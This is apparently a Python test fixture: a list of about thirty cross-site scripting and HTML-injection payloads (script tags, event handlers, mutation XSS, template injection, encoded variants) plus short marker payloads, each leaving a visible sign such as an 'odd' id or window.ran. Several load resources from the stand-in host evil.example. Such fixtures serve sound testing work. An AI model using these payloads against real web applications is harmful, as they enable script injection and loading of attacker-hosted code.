"""What somebody would type who wants a page to run it. Each leaves a sign where it works."""

# Where it works there is an element whose id begins with “odd”, a dialog, or `window.ran`.
LONG = [
    "<script id=odd1>window.ran=1;alert(1)</script>",
    '"><script id=odd2 src=//evil.example/x.js></script>',
    "'><img id=odd3 src=x onerror=window.ran=3>",
    "<svg id=odd4 onload=window.ran=4>",
    "<svg><script id=odd5>window.ran=5</script></svg>",
    '"><iframe id=odd6 srcdoc="<script>parent.ran=6</script>"></iframe>',
    "</title><script id=odd7>window.ran=7</script>",
    "</textarea><script id=odd8>window.ran=8</script>",
    "</script><script id=odd9>window.ran=9</script>",
    "--><script id=odd10>window.ran=10</script><!--",
    "<math><mtext></form><form><mglyph><style></math><img id=odd11 src onerror=window.ran=11>",
    '" autofocus onfocus=window.ran=12 id="odd12',
    "' autofocus onfocus=window.ran=13 id='odd13",
    "` onmouseover=window.ran=14 id=`odd14",
    '<a id=odd15 href="javascript:window.ran=15">x</a>',
    "<details id=odd16 open ontoggle=window.ran=16>",
    "<input id=odd17 autofocus onfocus=window.ran=17>",
    "<style id=odd18>*{display:none}</style>",
    "<link id=odd19 rel=stylesheet href=//evil.example/x.css>",
    "<base id=odd20 href=//evil.example/>",
    "<meta id=odd21 http-equiv=refresh content='0;url=//evil.example'>",
    "<form id=odd22 action=//evil.example><button>x</button></form>",
    "<object id=odd23 data=//evil.example/x></object>",
    "<embed id=odd24 src=//evil.example/x>",
    "<video id=odd25><source onerror=window.ran=25></video>",
    "{{constructor.constructor('window.ran=26')()}}",
    "{% include 'base.html' %}${window.ran=27}",
    "&lt;script id=odd28&gt;window.ran=28&lt;/script&gt;",
    "\\u003cscript id=odd29\\u003ewindow.ran=29\\u003c/script\\u003e",
    "%3Cimg%20id=odd30%20src=x%20onerror=window.ran=30%3E",
    "<scr<script>ipt id=odd31>window.ran=31</scr</script>ipt>",
]
# For a client's code, which has 24 signs at most and is another for each client.
SHORT = [
    "<b id=odd{n}>",
    '"><b id=odd{n}>',
    "'><b id=odd{n}>",
    "<p/id=odd{n}>",
    "</td><i id=odd{n}>",
    "</a><i id=odd{n}>",
    "<a href=//e.ex id=odd{n}>",
    "<q/id=odd{n} oncut=1>",
    "<svg id=odd{n}/onload=1>",
    "'-ran({n})-'",
    '"-ran({n})-"',
    "${{ran({n})}}",
]


def codes():
    """Return as many codes as there are long ones, each its own."""
    return [SHORT[n % len(SHORT)].format(n=100 + n)[:24] for n in range(len(LONG))]
